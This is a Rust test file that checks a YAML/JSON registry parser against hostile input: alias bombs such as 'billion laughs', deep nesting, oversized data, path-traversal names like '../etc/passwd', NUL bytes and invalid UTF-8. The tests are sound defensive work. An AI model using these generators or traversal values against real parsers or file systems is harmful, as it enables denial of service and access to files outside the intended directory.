#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Hostile documents: alias bombs of several shapes, deep nesting (flow and block), huge
//! files, arrays and strings, path-traversal names, NUL bytes, invalid UTF-8, byte order
//! marks, CRLF line ends and injection payloads in every text field. Each is refused with
//! a documented code (docs/spec.md §6.3) or accepted as inert data; none panics, overflows
//! the stack or expands before counting. Every limit of `umr_core::Limits` is checked at
//! its boundary: exactly at the limit is accepted, one over is refused.
//!
//! Large inputs are generated here, at test time; none is committed.

mod common;

use common::{bounded, TempDir};
use serde_json::{json, Value};
use std::path::PathBuf;
use umr_core::{check_file, check_text, Checked, Limits, LoadOptions, Record, Syntax};

const HEAD: &str = "format_version: '1.0'\nkind: model\nname: demo\nversion: 1.0.0\n";

/// Every error code documented in docs/spec.md §6.3 for reading a document.
const DOCUMENT_CODES: &[&str] = &[
    "E_IO",
    "E_UTF8",
    "E_EMPTY",
    "E_LIMIT_SIZE",
    "E_LIMIT_DEPTH",
    "E_LIMIT_NODES",
    "E_LIMIT_BYTES",
    "E_LIMIT_STRING",
    "E_JSON_SYNTAX",
    "E_JSON_SURROGATE",
    "E_YAML_SYNTAX",
    "E_YAML_MULTI_DOC",
    "E_YAML_COMPLEX_KEY",
    "E_DUPLICATE_KEY",
    "E_TYPE",
    "E_REQUIRED",
    "E_FORMAT_VERSION",
    "E_ENUM",
    "E_NAME",
    "E_SEMVER",
    "E_REQUIREMENT",
    "E_UPSTREAM",
    "E_DATE",
    "E_URL",
    "E_LICENSE",
    "E_ANSWER",
    "E_MITIGATION_JUSTIFICATION",
    "E_SELF_UPSTREAM",
    "E_LEGACY",
];

fn opts(limits: Limits) -> LoadOptions {
    LoadOptions { file: None, limits }
}

fn check(text: &str, syntax: Syntax) -> Checked {
    check_text(text, syntax, &LoadOptions::default())
}

fn check_with(text: &str, syntax: Syntax, limits: Limits) -> Checked {
    check_text(text, syntax, &opts(limits))
}

/// The error codes of a result, asserting the result is consistent and every code is
/// documented.
fn errors(c: &Checked) -> Vec<String> {
    let codes: Vec<String> = c
        .diagnostics
        .iter()
        .filter(|d| d.is_error())
        .map(|d| d.code.clone())
        .collect();
    assert_eq!(
        c.record.is_some(),
        codes.is_empty(),
        "a record comes back exactly when there is no error: {:?}",
        c.diagnostics
    );
    for code in &codes {
        assert!(
            DOCUMENT_CODES.contains(&code.as_str()),
            "undocumented code {code}: {:?}",
            c.diagnostics
        );
    }
    codes
}

/// Assert the document is refused and its first error has `code`.
#[track_caller]
fn refused(c: &Checked, code: &str) {
    let codes = errors(c);
    assert_eq!(
        codes.first().map(String::as_str),
        Some(code),
        "expected {code}: {:?}",
        c.diagnostics
    );
}

/// Assert the document is accepted and return the record.
#[track_caller]
fn accepted(c: &Checked) -> Record {
    let codes = errors(c);
    assert!(codes.is_empty(), "expected a record: {:?}", c.diagnostics);
    c.record.clone().unwrap()
}

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/hostile")
        .join(name)
}

// ---------------------------------------------------------------------------------------
// Alias bombs
// ---------------------------------------------------------------------------------------

/// The classic "billion laughs": nine levels of ten references each (10^9 nodes).
fn billion_laughs_flow() -> String {
    let mut s = String::from("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    let mut prev = 'a';
    for c in 'b'..='j' {
        let refs = vec![format!("*{prev}"); 10].join(", ");
        s.push_str(&format!("{c}: &{c} [{refs}]\n"));
        prev = c;
    }
    s
}

#[test]
fn alias_bomb_flow_sequences() {
    let text = format!(
        "{HEAD}extensions:\n  x-bomb:\n{}",
        indent(&billion_laughs_flow(), 4)
    );
    let c = check(&text, Syntax::Yaml);
    refused(&c, "E_LIMIT_NODES");
    let d = &c.diagnostics[0];
    assert!(d.line.is_some() && d.column.is_some(), "located: {d:?}");
}

#[test]
fn alias_bomb_block_mappings() {
    // block style: each level a mapping of ten keys aliasing the previous level
    let mut s = String::from("l0: &l0\n");
    for k in 0..10 {
        s.push_str(&format!("  k{k}: lol\n"));
    }
    for lvl in 1..=9 {
        s.push_str(&format!("l{lvl}: &l{lvl}\n"));
        for k in 0..10 {
            s.push_str(&format!("  k{k}: *l{}\n", lvl - 1));
        }
    }
    let text = format!("{HEAD}extensions:\n{}", indent(&s, 2));
    refused(&check(&text, Syntax::Yaml), "E_LIMIT_NODES");
}

#[test]
fn alias_bomb_binary_doubling() {
    // 60 levels of two references each: 2^60 nodes
    let mut s = String::from("x-0: &a0 [lol, lol]\n");
    for i in 1..60 {
        s.push_str(&format!("x-{i}: &a{i} [*a{p}, *a{p}]\n", p = i - 1));
    }
    refused(&check(&format!("{HEAD}{s}"), Syntax::Yaml), "E_LIMIT_NODES");
}

#[test]
fn alias_bomb_one_wide_anchor_many_references() {
    // one anchor of 1,000 items referenced 1,000 times: a million nodes, shallow
    let items = vec!["lol"; 1000].join(", ");
    let refs = vec!["*w"; 1000].join(", ");
    let text = format!("{HEAD}extensions:\n  w: &w [{items}]\n  r: [{refs}]\n");
    refused(&check(&text, Syntax::Yaml), "E_LIMIT_NODES");
}

#[test]
fn alias_bomb_in_the_prototype_dialect() {
    let text = format!(
        "mr:\n  type: model\n  metadata:\n    name: x\n    version: 1.0.0\n  extra:\n{}",
        indent(&billion_laughs_flow(), 4)
    );
    refused(&check(&text, Syntax::Yaml), "E_LIMIT_NODES");
}

#[test]
fn alias_bomb_in_text_fields_and_as_keys() {
    // aliases used where text is expected: expansion is counted first
    let text = format!(
        "{HEAD}x-def: &t [{}]\ntags: [*t, *t, *t]\n",
        vec!["lol"; 100_000].join(", ")
    );
    refused(&check(&text, Syntax::Yaml), "E_LIMIT_NODES");
    // an alias as a mapping key is refused outright
    let text = format!("{HEAD}x-a: &k key\nextensions:\n  *k : 1\n");
    refused(&check(&text, Syntax::Yaml), "E_YAML_COMPLEX_KEY");
    // an alias to an anchor that is not defined
    refused(
        &check(&format!("{HEAD}title: *nope\n"), Syntax::Yaml),
        "E_YAML_SYNTAX",
    );
}

/// One large string anchored once and aliased many times: few nodes, a small file, but
/// gigabytes once expanded. Counted by bytes, it is refused at the alias that passes the
/// limit, before that alias is copied.
#[test]
fn alias_bomb_of_a_large_string_is_refused_by_bytes() {
    let big = "x".repeat(Limits::default().max_string_bytes);
    let mut s = format!("{HEAD}extensions:\n  big: &big {big}\n  copies:\n");
    for _ in 0..199_000 {
        s.push_str("    - *big\n");
    }
    let c = check(&s, Syntax::Yaml);
    refused(&c, "E_LIMIT_BYTES");
    let d = &c.diagnostics[0];
    assert!(d.line.is_some(), "located: {d:?}");
    assert!(d.path.starts_with("extensions.copies["), "{}", d.path);
}

/// The expanded-bytes limit at its boundary: scalars and keys, aliases counted at the
/// bytes they repeat.
#[test]
fn limit_expanded_bytes_boundary() {
    let text = format!("{HEAD}extensions:\n  a: &a abcdefghij\n  b: [*a, *a, *a]\n");
    let plain =
        format!("{HEAD}extensions:\n  a: abcdefghij\n  b: [abcdefghij, abcdefghij, abcdefghij]\n");
    // the two documents expand to the same bytes: count them on the plain one
    let total = {
        let mut n = 0;
        let mut lo = 1;
        let mut hi = plain.len();
        while lo <= hi {
            let mid = (lo + hi) / 2;
            let l = Limits {
                max_expanded_bytes: mid,
                ..Limits::default()
            };
            if check_with(&plain, Syntax::Yaml, l).record.is_some() {
                n = mid;
                hi = mid - 1;
            } else {
                lo = mid + 1;
            }
        }
        n
    };
    assert!(total > 40, "four ten-byte strings and the keys: {total}");
    for doc in [&plain, &text] {
        let at = Limits {
            max_expanded_bytes: total,
            ..Limits::default()
        };
        let under = Limits {
            max_expanded_bytes: total - 1,
            ..Limits::default()
        };
        accepted(&check_with(doc, Syntax::Yaml, at));
        refused(&check_with(doc, Syntax::Yaml, under), "E_LIMIT_BYTES");
    }
}

/// Anchors nested deep, each wrapping the previous one: small text, a depth of thousands
/// once expanded. An alias counts at the height of the value it repeats.
#[test]
fn depth_through_aliases_is_refused() {
    let mut s = format!("{HEAD}extensions:\n");
    let wrap = 58;
    for i in 0..40 {
        let inner = if i == 0 {
            "1".to_string()
        } else {
            format!("*a{}", i - 1)
        };
        s.push_str(&format!(
            "  l{i}: &a{i} {}{inner}{}\n",
            "[".repeat(wrap),
            "]".repeat(wrap)
        ));
    }
    let c = check(&s, Syntax::Yaml);
    refused(&c, "E_LIMIT_DEPTH");
    assert!(c.diagnostics[0].line.is_some());
}

/// The depth limit counts an alias's height exactly: an alias of a value of height h used
/// at depth d makes d + h levels.
#[test]
fn limit_depth_boundary_through_aliases() {
    // root(1) > extensions(2) > a: 3 levels of lists (3..5); b: [ *a ] puts it at 3 + 3
    let text = format!("{HEAD}extensions:\n  a: &a [[[1]]]\n  b: [*a]\n");
    let levels = 6;
    let at = Limits {
        max_depth: levels,
        ..Limits::default()
    };
    let under = Limits {
        max_depth: levels - 1,
        ..Limits::default()
    };
    accepted(&check_with(&text, Syntax::Yaml, at));
    refused(&check_with(&text, Syntax::Yaml, under), "E_LIMIT_DEPTH");
    // the same document written out has the same depth
    let plain = format!("{HEAD}extensions:\n  a: [[[1]]]\n  b: [[[[1]]]]\n");
    accepted(&check_with(&plain, Syntax::Yaml, at));
    refused(&check_with(&plain, Syntax::Yaml, under), "E_LIMIT_DEPTH");
}

#[test]
fn small_aliases_are_fine() {
    let text = format!("{HEAD}x-a: &a [1, 2]\nextensions:\n  b: *a\n  c: *a\n");
    let r = accepted(&check(&text, Syntax::Yaml));
    assert_eq!(r.value()["extensions"]["c"], json!([1, 2]));
}

fn indent(s: &str, n: usize) -> String {
    let pad = " ".repeat(n);
    s.lines().map(|l| format!("{pad}{l}\n")).collect()
}

// ---------------------------------------------------------------------------------------
// Deep nesting
// ---------------------------------------------------------------------------------------

const DEEP: usize = 10_000;

#[test]
fn deep_flow_nesting_is_refused() {
    for (open, close) in [("[", "]"), ("{a: ", "}")] {
        let body = open.repeat(DEEP) + "1" + &close.repeat(DEEP);
        let text = format!("{HEAD}extensions:\n  x: {body}\n");
        refused(&check(&text, Syntax::Yaml), "E_LIMIT_DEPTH");
    }
    for (open, close) in [("[", "]"), ("{\"a\": ", "}")] {
        let body = open.repeat(DEEP) + "1" + &close.repeat(DEEP);
        let text = format!(
            "{{\"format_version\": \"1.0\", \"kind\": \"model\", \"name\": \"demo\", \"version\": \"1.0.0\", \"extensions\": {{\"x\": {body}}}}}"
        );
        refused(&check(&text, Syntax::Json), "E_LIMIT_DEPTH");
    }
}

#[test]
fn deep_block_nesting_is_refused() {
    // compact block sequences: `- - - - … x`, 10,000 levels on one line
    let text = format!("{HEAD}extensions:\n  x:\n    {}x\n", "- ".repeat(DEEP));
    refused(&check(&text, Syntax::Yaml), "E_LIMIT_DEPTH");
    // indented block mappings (one space a level keeps the file under the size limit)
    let mut s = String::from(HEAD);
    s.push_str("extensions:\n");
    for i in 0..2_000 {
        s.push_str(&" ".repeat(i + 1));
        s.push_str("k:\n");
    }
    s.push_str(&" ".repeat(2_001));
    s.push_str("v\n");
    refused(&check(&s, Syntax::Yaml), "E_LIMIT_DEPTH");
}

/// With the depth limit raised far beyond the default, the tree is still built without
/// recursion: a 10,000-level block sequence is parsed and the record is refused or
/// accepted without a stack overflow (tests run on 2 MiB threads).
#[test]
fn deep_block_nesting_with_a_raised_limit_does_not_overflow() {
    let limits = Limits {
        max_depth: 1_000_000,
        ..Limits::default()
    };
    let text = format!("{HEAD}extensions:\n  x:\n    {}x\n", "- ".repeat(DEEP));
    let handle = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            let p = umr_core::yaml::parse(&text, &limits);
            let ok = p.is_ok();
            // the tree is dropped by serde_json (recursively): leak it, the parser is
            // what is under test here
            std::mem::forget(p);
            ok
        })
        .unwrap();
    assert!(
        handle.join().unwrap(),
        "the raised limit admits the document"
    );
}

// ---------------------------------------------------------------------------------------
// Huge inputs
// ---------------------------------------------------------------------------------------

#[test]
fn huge_text_and_file_are_refused() {
    let limit = Limits::default().max_file_bytes;
    let mut text = String::from(HEAD);
    text.push_str("description: |\n");
    while text.len() <= limit {
        text.push_str("  lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum\n");
    }
    refused(&check(&text, Syntax::Yaml), "E_LIMIT_SIZE");
    let dir = TempDir::new("huge");
    let f = dir.0.join("demo").join("demo-1.0.0.yaml");
    std::fs::create_dir_all(f.parent().unwrap()).unwrap();
    std::fs::write(&f, &text).unwrap();
    let c = check_file(&f, &Limits::default());
    refused(&c, "E_LIMIT_SIZE");
    assert_eq!(
        c.diagnostics[0].file.as_deref(),
        Some(f.display().to_string().as_str())
    );
    // the registry loader skips it with the same code
    let (records, report) =
        umr_core::registry::load_roots(std::slice::from_ref(&dir.0), &Limits::default())
            .expect("the registry opens");
    assert!(records.is_empty());
    assert!(report.diagnostics.iter().any(|d| d.code == "E_LIMIT_SIZE"));
}

#[test]
fn huge_arrays_are_refused() {
    let n = Limits::default().max_nodes + 1;
    let items = vec!["t"; n].join(", ");
    refused(
        &check(&format!("{HEAD}tags: [{items}]\n"), Syntax::Yaml),
        "E_LIMIT_NODES",
    );
    let items = vec!["\"t\""; n].join(",");
    let json = format!(
        "{{\"format_version\":\"1.0\",\"kind\":\"model\",\"name\":\"demo\",\"version\":\"1.0.0\",\"tags\":[{items}]}}"
    );
    refused(&check(&json, Syntax::Json), "E_LIMIT_NODES");
    // block style, one item a line
    let mut block = format!("{HEAD}tags:\n");
    for _ in 0..n {
        block.push_str("- t\n");
    }
    refused(&check(&block, Syntax::Yaml), "E_LIMIT_NODES");
    // a huge mapping (keys are free, values count)
    let mut map = format!("{HEAD}extensions:\n");
    for i in 0..n {
        map.push_str(&format!("  k{i}: 1\n"));
    }
    refused(&check(&map, Syntax::Yaml), "E_LIMIT_NODES");
}

#[test]
fn huge_strings_are_refused() {
    let long = "x".repeat(Limits::default().max_string_bytes + 1);
    for text in [
        format!("{HEAD}title: {long}\n"),
        format!("{HEAD}title: '{long}'\n"),
        format!("{HEAD}title: \"{long}\"\n"),
        format!("{HEAD}description: |\n  {long}\n"),
        format!("{HEAD}extensions:\n  {long}: 1\n"),
    ] {
        refused(&check(&text, Syntax::Yaml), "E_LIMIT_STRING");
    }
    let json = format!(
        "{{\"format_version\":\"1.0\",\"kind\":\"model\",\"name\":\"demo\",\"version\":\"1.0.0\",\"title\":\"{long}\"}}"
    );
    refused(&check(&json, Syntax::Json), "E_LIMIT_STRING");
    // escapes are counted after decoding: many short escapes that decode long
    let esc = "\\u0041".repeat(Limits::default().max_string_bytes + 1);
    assert!(esc.len() < Limits::default().max_file_bytes);
    refused(
        &check(&format!("{HEAD}title: \"{esc}\"\n"), Syntax::Yaml),
        "E_LIMIT_STRING",
    );
}

// ---------------------------------------------------------------------------------------
// Limits at their boundaries, through check_text with a custom `Limits`
// ---------------------------------------------------------------------------------------

fn both_syntaxes(v: &Value) -> [(String, Syntax); 2] {
    [
        (umr_core::yaml::to_yaml(v), Syntax::Yaml),
        (serde_json::to_string(v).unwrap(), Syntax::Json),
    ]
}

#[test]
fn limit_file_bytes_boundary() {
    for (text, syntax) in both_syntaxes(&json!({
        "format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0"
    })) {
        let n = text.len();
        let at = Limits {
            max_file_bytes: n,
            ..Limits::default()
        };
        let under = Limits {
            max_file_bytes: n - 1,
            ..Limits::default()
        };
        accepted(&check_with(&text, syntax, at));
        refused(&check_with(&text, syntax, under), "E_LIMIT_SIZE");
    }
    // the file loader checks the size before reading, with the same boundary
    let dir = TempDir::new("size");
    let f = dir.0.join("demo.yaml");
    std::fs::write(&f, HEAD).unwrap();
    let n = HEAD.len();
    let at = Limits {
        max_file_bytes: n,
        ..Limits::default()
    };
    let under = Limits {
        max_file_bytes: n - 1,
        ..Limits::default()
    };
    accepted(&check_file(&f, &at));
    refused(&check_file(&f, &under), "E_LIMIT_SIZE");
}

/// A record whose deepest container is at nesting level `levels` (the root mapping is
/// level 1).
fn nested_record(levels: usize) -> Value {
    assert!(levels >= 2);
    let mut inner = json!(1);
    for _ in 0..levels - 1 {
        inner = json!({ "k": inner });
    }
    json!({
        "format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0",
        "extensions": inner
    })
}

#[test]
fn limit_depth_boundary() {
    for levels in [3, 10, 64] {
        for (text, syntax) in both_syntaxes(&nested_record(levels)) {
            let at = Limits {
                max_depth: levels,
                ..Limits::default()
            };
            let under = Limits {
                max_depth: levels - 1,
                ..Limits::default()
            };
            accepted(&check_with(&text, syntax, at));
            refused(&check_with(&text, syntax, under), "E_LIMIT_DEPTH");
        }
    }
    // the default: 64 levels accepted, 65 refused
    for (text, syntax) in both_syntaxes(&nested_record(64)) {
        accepted(&check(&text, syntax));
    }
    for (text, syntax) in both_syntaxes(&nested_record(65)) {
        refused(&check(&text, syntax), "E_LIMIT_DEPTH");
    }
}

#[test]
fn limit_nodes_boundary() {
    // nodes: the root mapping, four identity scalars, the tags list and its k items
    // (keys are not counted)
    for k in [0usize, 1, 50, 1000] {
        let v = json!({
            "format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0",
            "tags": vec!["t"; k]
        });
        let nodes = 1 + 4 + 1 + k;
        for (text, syntax) in both_syntaxes(&v) {
            let at = Limits {
                max_nodes: nodes,
                ..Limits::default()
            };
            let under = Limits {
                max_nodes: nodes - 1,
                ..Limits::default()
            };
            accepted(&check_with(&text, syntax, at));
            refused(&check_with(&text, syntax, under), "E_LIMIT_NODES");
        }
    }
    // an alias counts the nodes it copies: [1, 2] is 3 nodes, so two aliases add 6
    let text = format!("{HEAD}x-a: &a [1, 2]\nx-b: *a\nx-c: *a\n");
    let nodes = 1 + 4 + 3 + 3 + 3;
    let at = Limits {
        max_nodes: nodes,
        ..Limits::default()
    };
    let under = Limits {
        max_nodes: nodes - 1,
        ..Limits::default()
    };
    accepted(&check_with(&text, Syntax::Yaml, at));
    refused(&check_with(&text, Syntax::Yaml, under), "E_LIMIT_NODES");
    // the default: 200,000 accepted, 200,001 refused
    let k = Limits::default().max_nodes - 6;
    let v = json!({
        "format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0",
        "tags": vec!["t"; k]
    });
    for (text, syntax) in both_syntaxes(&v) {
        accepted(&check(&text, syntax));
    }
    let v = json!({
        "format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0",
        "tags": vec!["t"; k + 1]
    });
    for (text, syntax) in both_syntaxes(&v) {
        refused(&check(&text, syntax), "E_LIMIT_NODES");
    }
}

#[test]
fn limit_string_boundary() {
    for len in [1usize, 16, 4096] {
        // multi-byte characters: the limit counts bytes
        let s: String = "é".repeat(len / 2) + &"x".repeat(len % 2);
        assert_eq!(s.len(), len);
        let v = json!({
            "format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0",
            "title": s
        });
        for (text, syntax) in both_syntaxes(&v) {
            // the longest scalar of the document is the title (identity values are short)
            let at = Limits {
                max_string_bytes: len.max(14),
                ..Limits::default()
            };
            accepted(&check_with(&text, syntax, at));
            if len > 14 {
                let under = Limits {
                    max_string_bytes: len - 1,
                    ..Limits::default()
                };
                refused(&check_with(&text, syntax, under), "E_LIMIT_STRING");
            }
        }
    }
    // the default: 1 MiB accepted, 1 MiB + 1 refused
    let max = Limits::default().max_string_bytes;
    for len in [max, max + 1] {
        let v = json!({
            "format_version": "1.0", "kind": "model", "name": "demo", "version": "1.0.0",
            "title": "x".repeat(len)
        });
        for (text, syntax) in both_syntaxes(&v) {
            let c = check(&text, syntax);
            if len == max {
                accepted(&c);
            } else {
                refused(&c, "E_LIMIT_STRING");
            }
        }
    }
}

#[test]
fn limit_records_boundary() {
    let dir = TempDir::new("records");
    for i in 0..5 {
        let name = format!("r{i}");
        let f = dir.0.join(&name).join(format!("{name}-1.0.0.yaml"));
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(
            &f,
            format!("format_version: '1.0'\nkind: model\nname: {name}\nversion: 1.0.0\n"),
        )
        .unwrap();
    }
    let at = Limits {
        max_records: 5,
        ..Limits::default()
    };
    let under = Limits {
        max_records: 4,
        ..Limits::default()
    };
    let (records, _) = umr_core::registry::load_roots(std::slice::from_ref(&dir.0), &at).unwrap();
    assert_eq!(records.len(), 5);
    let e = umr_core::registry::load_roots(std::slice::from_ref(&dir.0), &under).unwrap_err();
    assert_eq!(e.code(), "E_LIMIT_RECORDS");
    assert_eq!(e.kind(), "RefusedError");
    let e = umr_core::Registry::open(std::slice::from_ref(&dir.0), &under).unwrap_err();
    assert_eq!(e.code(), "E_LIMIT_RECORDS");
}

#[test]
fn limit_name_segment_boundary() {
    let max = umr_core::names::MAX_NAME_SEGMENT;
    assert_eq!(max, 96);
    for (name, ok) in [
        ("a".repeat(max), true),
        ("a".repeat(max + 1), false),
        (format!("{}/{}", "o".repeat(max), "n".repeat(max)), true),
        (format!("{}/{}", "o".repeat(max + 1), "n"), false),
        (format!("{}/{}", "o", "n".repeat(max + 1)), false),
    ] {
        let text = format!("format_version: '1.0'\nkind: model\nname: {name}\nversion: 1.0.0\n");
        let c = check(&text, Syntax::Yaml);
        if ok {
            accepted(&c);
        } else {
            refused(&c, "E_NAME");
        }
    }
}

#[test]
fn limits_defaults_are_documented_values() {
    let l = Limits::default();
    assert_eq!(l.max_file_bytes, 8 * 1024 * 1024);
    assert_eq!(l.max_depth, 64);
    assert_eq!(l.max_nodes, 200_000);
    assert_eq!(l.max_string_bytes, 1024 * 1024);
    assert_eq!(l.max_expanded_bytes, 16 * 1024 * 1024);
    assert_eq!(l.max_records, 2_000_000);
    // the options struct reads from partial JSON with the defaults filled in (as the
    // bindings pass it)
    let partial: Limits = serde_json::from_str(r#"{"max_depth": 8}"#).unwrap();
    assert_eq!(
        partial,
        Limits {
            max_depth: 8,
            ..Limits::default()
        }
    );
}

// ---------------------------------------------------------------------------------------
// Names that could escape a registry root
// ---------------------------------------------------------------------------------------

const BAD_NAMES: &[&str] = &[
    "../etc/passwd",
    "../../x",
    "..",
    ".",
    "a/..",
    "a/../b",
    "a/./b",
    "./a",
    "/etc/passwd",
    "/abs",
    "\\\\server\\share",
    "C:\\Windows",
    "C:/Windows",
    "a\\b",
    "a/b/c",
    "a//b",
    "a/",
    "/a",
    "~/x",
    "%2e%2e/x",
    "a b",
    "a\tb",
    "a\u{0}b",
    "a\nb",
    ".hidden",
    "-dash",
    "_under",
    "ａ",
    "a\u{2215}b",
    "a\u{ff0f}b",
    "",
];

#[test]
fn traversal_and_absolute_names_are_refused() {
    for name in BAD_NAMES {
        let v = json!({"format_version": "1.0", "kind": "model", "name": name, "version": "1.0.0"});
        for (text, syntax) in both_syntaxes(&v) {
            let c = check(&text, syntax);
            let codes = errors(&c);
            assert!(
                codes.iter().any(|c| c == "E_NAME" || c == "E_REQUIRED"),
                "name {name:?} in {syntax:?}: {:?}",
                c.diagnostics
            );
        }
        // in an upstream reference, short and mapping forms, and as a risk's upstream
        if !name.is_empty() {
            let short = json!({"format_version": "1.0", "kind": "model", "name": "ok",
                "version": "1.0.0", "upstream": [format!("{name}>=1.0.0")]});
            let c = check(&serde_json::to_string(&short).unwrap(), Syntax::Json);
            assert!(
                errors(&c).iter().any(|c| c == "E_UPSTREAM"),
                "{name:?}: {:?}",
                c.diagnostics
            );
        }
        let map = json!({"format_version": "1.0", "kind": "model", "name": "ok",
            "version": "1.0.0", "upstream": [{"name": name}]});
        let c = check(&serde_json::to_string(&map).unwrap(), Syntax::Json);
        assert!(
            errors(&c)
                .iter()
                .any(|c| c == "E_NAME" || c == "E_REQUIRED"),
            "{name:?}: {:?}",
            c.diagnostics
        );
        // a lookup by reference refuses it as an argument
        let reg = umr_core::Registry::from_records(vec![]).unwrap();
        if let Err(e) = reg.find(name) {
            assert!(
                ["E_REFERENCE", "E_NOT_FOUND"].contains(&e.code().as_str()),
                "{name:?}: {e}"
            );
        }
    }
}

#[test]
fn every_valid_name_stays_inside_the_registry() {
    for name in [
        "a", "org/name", "a.b", "a._.b", "x-1.0.0", "A_b-C.d", "9lives",
    ] {
        let v = json!({"format_version": "1.0", "kind": "model", "name": name, "version": "1.0.0"});
        let r = Record::from_value(v).unwrap();
        let p = std::path::Path::new(&r.registry_path()).to_path_buf();
        assert!(p.is_relative(), "{p:?}");
        assert!(
            p.components()
                .all(|c| matches!(c, std::path::Component::Normal(_))),
            "{name}: {p:?}"
        );
        assert!(
            p.components().count() <= 3,
            "{name}: at most org/name/file: {p:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Bytes: NUL, invalid UTF-8, BOM, CRLF
// ---------------------------------------------------------------------------------------

#[test]
fn nul_bytes() {
    // a raw NUL byte in a document is not YAML (a C0 control character)
    let c = check(&format!("{HEAD}title: a\u{0}b\n"), Syntax::Yaml);
    let codes = errors(&c);
    if let Some(r) = &c.record {
        // if a parser ever accepts it, the NUL is data and survives a round trip
        assert_eq!(r.value()["title"], "a\u{0}b");
    } else {
        assert_eq!(codes[0], "E_YAML_SYNTAX", "{:?}", c.diagnostics);
    }
    // an escaped NUL is data: kept, and written back escaped
    let r = accepted(&check(&format!("{HEAD}title: \"a\\0b\"\n"), Syntax::Yaml));
    assert_eq!(r.value()["title"], "a\u{0}b");
    let y = r.to_yaml();
    assert!(!y.contains('\u{0}'), "canonical YAML escapes NUL: {y:?}");
    assert_eq!(accepted(&check(&y, Syntax::Yaml)).value(), r.value());
    let j = r.to_json();
    assert!(!j.contains('\u{0}'));
    assert_eq!(accepted(&check(&j, Syntax::Json)).value(), r.value());
    // JSON: a raw NUL inside a string is a syntax error; \u0000 is data
    refused(
        &check(
            "{\"format_version\":\"1.0\",\"kind\":\"model\",\"name\":\"demo\",\"version\":\"1.0.0\",\"title\":\"a\u{0}b\"}",
            Syntax::Json,
        ),
        "E_JSON_SYNTAX",
    );
    let r = accepted(&check(
        "{\"format_version\":\"1.0\",\"kind\":\"model\",\"name\":\"demo\",\"version\":\"1.0.0\",\"title\":\"a\\u0000b\"}",
        Syntax::Json,
    ));
    assert_eq!(r.value()["title"], "a\u{0}b");
    // NUL in a name is refused
    refused(
        &check(
            "format_version: '1.0'\nkind: model\nname: \"de\\0mo\"\nversion: 1.0.0\n",
            Syntax::Yaml,
        ),
        "E_NAME",
    );
    // a file of NUL bytes
    let d = TempDir::new("nul");
    let f = d.0.join("nul.yaml");
    std::fs::write(&f, vec![0u8; 4096]).unwrap();
    let c = check_file(&f, &Limits::default());
    assert!(c.record.is_none());
    errors(&c);
}

#[test]
fn invalid_utf8_is_refused_with_a_location() {
    let cases: &[(&[u8], usize, usize)] = &[
        (b"format_version: '1.0'\nkind: model\nname: d\xe9mo\n", 3, 8),
        (b"\xff\xfe\x00f\x00o", 1, 1),
        (b"title: \xc3\x28\n", 1, 8),
        (b"a: b\n\xed\xa0\x80\n", 2, 1),  // an encoded surrogate
        (b"a: \xf4\x90\x80\x80\n", 1, 4), // beyond U+10FFFF
        (b"a: \xc0\xaf\n", 1, 4),         // overlong `/`
    ];
    let d = TempDir::new("utf8");
    for (i, (bytes, line, col)) in cases.iter().enumerate() {
        let f = d.0.join(format!("bad{i}.yaml"));
        std::fs::write(&f, bytes).unwrap();
        let c = check_file(&f, &Limits::default());
        refused(&c, "E_UTF8");
        let dg = &c.diagnostics[0];
        assert_eq!((dg.line, dg.column), (Some(*line), Some(*col)), "{dg:?}");
        let e = umr_core::yaml::decode(bytes).unwrap_err();
        assert_eq!(e.code, "E_UTF8");
    }
}

#[test]
fn byte_order_mark_is_accepted() {
    let bom = format!("\u{feff}{HEAD}");
    let plain = accepted(&check(HEAD, Syntax::Yaml));
    // through the file loader (which strips it) and through check_text directly
    let d = TempDir::new("bom");
    let f = d.0.join("demo.yaml");
    std::fs::write(&f, &bom).unwrap();
    assert_eq!(accepted(&check_file(&f, &Limits::default())), plain);
    assert_eq!(accepted(&check(&bom, Syntax::Yaml)), plain);
    let json = "\u{feff}{\"format_version\":\"1.0\",\"kind\":\"model\",\"name\":\"demo\",\"version\":\"1.0.0\"}";
    let f = d.0.join("demo.json");
    std::fs::write(&f, json).unwrap();
    assert_eq!(accepted(&check_file(&f, &Limits::default())), plain);
    assert_eq!(Syntax::detect(json, None), Syntax::Json);
    // error locations are unchanged by the BOM
    let bad = format!("\u{feff}{HEAD}version: 2.0.0\n");
    let c = check(&bad, Syntax::Yaml);
    refused(&c, "E_DUPLICATE_KEY");
    assert_eq!(c.diagnostics[0].line, Some(5));
    // a BOM inside a value is data
    let r = accepted(&check(
        &format!("{HEAD}title: \"a\u{feff}b\"\n"),
        Syntax::Yaml,
    ));
    assert_eq!(r.value()["title"], "a\u{feff}b");
}

#[test]
fn crlf_line_ends_are_accepted() {
    let lf = format!("{HEAD}description: |\n  one\n  two\ntags:\n  - a\n  - b\n");
    let crlf = lf.replace('\n', "\r\n");
    let a = accepted(&check(&lf, Syntax::Yaml));
    let b = accepted(&check(&crlf, Syntax::Yaml));
    assert_eq!(
        a.value(),
        b.value(),
        "CRLF reads as LF (block scalars included)"
    );
    // errors are located on the same line as with LF
    let bad = format!("{HEAD}version: 2.0.0\n").replace('\n', "\r\n");
    let c = check(&bad, Syntax::Yaml);
    refused(&c, "E_DUPLICATE_KEY");
    assert_eq!(c.diagnostics[0].line, Some(5));
    // the committed fixture
    let c = check_file(&fixture("crlf/crlf-1.0.0.yaml"), &Limits::default());
    let r = accepted(&c);
    assert_eq!(r.name(), "crlf");
    // a lone CR is a line break too (YAML 1.2)
    let cr = lf.replace('\n', "\r");
    let c = check(&cr, Syntax::Yaml);
    errors(&c);
}

// ---------------------------------------------------------------------------------------
// Injection payloads in every text field
// ---------------------------------------------------------------------------------------

/// HTML/JS, SVG, LaTeX and Markdown payloads.
